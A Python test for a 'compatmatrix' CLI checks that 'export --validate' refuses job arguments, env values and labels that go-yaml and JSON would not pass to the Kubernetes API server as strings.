def test_validate_types_each_plain_scalar_as_the_api_server(scalars, capsys, monkeypatch, tmp_path):
    """export --validate judges what go-yaml and JSON make of each plain scalar (render/goyaml.py): an argument, an env
    value or a label the API server does not get as a string is refused, one it does is not (issue 31: `2e-5` passed,
    `1:30` failed)."""
    from compatmatrix.render.goyaml import NoJSONForm, go_yaml_resolve, wire_value

    monkeypatch.setenv("COMPAT_CRASH_DIR", str(tmp_path))
    path = tmp_path / "job.yaml"
    path.write_text(GO_YAML_JOB.format(*scalars), encoding="utf-8")
    code, out, err = run_in_process(["export", "--validate", str(path), "--python-version", "3.11", "--trainer-version", "v2.3", "--json"], capsys)
    assert code in (0, 1) and "Traceback" not in out + err and "internal error" not in err, (scalars, err[-2000:])
    refused = {c["summary"].split(":")[0] for c in json.loads(out)["checks"] if c["id"] == "export.api-schema" and c["status"] == "fail"}

    def wire(text):
        try:
            return wire_value(go_yaml_resolve(text))
        except NoJSONForm:
            return float("inf")

    arg, env, label = (wire(s) for s in (scalars[0], scalars[1], scalars[3]))
    assert ("spec.trainer.args[2]" in refused) == (not isinstance(arg, str)), (scalars[0], arg, refused)
    assert ("spec.trainer.env[0].value" in refused) == (env is not None and not isinstance(env, str)), (scalars[1], env, refused)
    assert ("metadata.labels" in refused) == (not isinstance(label, str)), (scalars[3], label, refused)
